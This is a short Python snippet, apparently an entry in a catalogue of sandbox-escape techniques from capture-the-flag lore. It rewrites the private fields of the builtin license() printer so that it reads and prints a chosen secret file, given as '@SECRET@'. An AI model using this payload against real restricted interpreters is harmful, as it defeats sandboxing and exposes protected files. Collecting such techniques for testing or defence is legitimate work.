# technique: the license() printer of site shows the files in its list
# goal: read-secret
# source: CTF folklore, _sitebuiltins._Printer
license._Printer__lines = None
license._Printer__filenames = ['@SECRET@']
print(repr(license))
license._Printer__setup()
print(license._Printer__lines)
